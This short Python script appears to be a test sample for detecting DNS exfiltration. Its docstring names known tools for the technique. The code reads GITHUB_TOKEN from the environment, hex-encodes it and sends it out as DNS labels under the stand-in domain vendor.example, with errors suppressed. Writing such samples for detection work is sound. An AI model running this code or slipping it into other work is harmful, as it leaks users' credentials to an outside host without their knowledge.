#!/usr/bin/python3
"""
Trick: Asks for a name whose labels are a secret in hexadecimal digits.
Known from: DNS exfiltration: dnscat2, DNSExfiltrator, and the AWS-key stealers on npm and PyPI.
First: the responder's record of the question
Second: sendto to the resolver
"""

import contextlib
import os
import socket

digits = os.environ["GITHUB_TOKEN"].encode().hex()
with contextlib.suppress(OSError):
    socket.getaddrinfo(f"{digits[:40]}.{digits[40:]}.vendor.example", 80)
print("performed")
